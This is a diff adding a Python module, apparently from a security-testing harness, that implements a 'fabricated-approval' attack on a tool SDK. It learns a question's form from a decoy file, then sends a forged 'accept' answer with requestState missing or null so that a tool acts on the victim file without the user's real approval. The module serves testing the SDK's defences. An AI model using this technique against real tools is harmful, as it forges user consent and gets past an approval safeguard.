@@ -1,0 +1,42 @@
+"""`fabricated-approval`: an answer to a question, arriving without the question's state.
+
+The SDK checks state only when state is sent: `inputResponses` with no
+`requestState` (or a null one) reach the handler untouched. A tool that reads
+the answer without demanding its state can be talked into acting in one call.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from typing import Any
+
+from . import technique
+from .base import Attack
+from .forged_state import plain_responses
+
+
+@technique("fabricated-approval")
+async def fabricated_approval(attack: Attack, params: Mapping[str, Any]) -> None:
+    victim = attack.case.victim
+    # Learn the question's key and form from a question about another file;
+    # the victim itself is never asked about, so no state for it exists.
+    decoy = attack.case.add_file("decoy.txt")
+    learned = await attack.ask(decoy, label="learn the form's key from a question about another file")
+    if attack.failed:
+        return
+    yes = attack.accept(learned, victim)
+    attack.start_attack()
+    if params["state"] == "absent":
+        await attack.call("an accept answer with no requestState", victim, responses=yes)
+    elif params["state"] == "null":
+        await attack.call_raw(
+            "an accept answer with requestState: null",
+            {
+                "name": attack.plan.name,
+                "arguments": attack.arguments(victim),
+                "requestState": None,
+                "inputResponses": plain_responses(yes),
+            },
+        )
+    else:
+        raise ValueError(f"fabricated-approval: unknown state {params['state']!r}")
